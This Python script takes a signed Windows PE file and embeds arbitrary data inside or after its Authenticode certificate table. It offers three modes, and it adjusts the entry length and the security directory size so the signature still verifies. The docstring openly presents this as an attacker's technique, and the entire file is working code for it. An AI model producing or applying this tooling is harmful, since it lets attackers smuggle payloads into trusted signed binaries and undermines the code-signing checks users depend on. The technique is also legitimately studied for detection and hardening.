#!/usr/bin/env python3
"""Hides bytes in or after the certificate table of a signed PE file, as an
attacker would: the Authenticode digest leaves the table out, so the
signature still matches the file.

  hide_in_certificate_table.py MODE IN OUT DATA_FILE
    entry      DATA follows the signature inside its entry: the entry's
               length and the security directory's size grow
    directory  DATA follows the entry: only the directory's size grows
    after      DATA follows the table: nothing else changes
"""

import struct
import sys


def align8(data):
    return data + b"\0" * (-len(data) % 8)


def security_entry(image):
    """The file offset of the security directory entry (offset, size)."""
    pe = struct.unpack_from("<I", image, 0x3C)[0]
    if image[pe:pe + 4] != b"PE\0\0":
        raise ValueError("no PE header")
    magic = struct.unpack_from("<H", image, pe + 24)[0]
    return pe + 24 + (144 if magic == 0x20B else 128)


def hide(mode, image, data):
    entry = security_entry(image)
    offset, size = struct.unpack_from("<II", image, entry)
    if not size or offset + size != len(image):
        raise ValueError("not a signed image whose table ends the file")
    table = image[offset:]
    if mode == "entry":
        length = struct.unpack_from("<I", table, 0)[0]
        grown = table[:length] + data
        table = align8(struct.pack("<I", len(grown)) + grown[4:])
    elif mode == "directory":
        table = align8(table + data)
    elif mode == "after":
        return image + data
    else:
        raise ValueError("unknown mode " + mode)
    out = bytearray(image[:offset] + table)
    struct.pack_into("<II", out, entry, offset, len(table))
    return bytes(out)


def main():
    mode, source, target, data_file = sys.argv[1:5]
    with open(source, "rb") as f:
        image = f.read()
    with open(data_file, "rb") as f:
        data = f.read()
    with open(target, "wb") as f:
        f.write(hide(mode, image, data))
    return 0


if __name__ == "__main__":
    sys.exit(main())
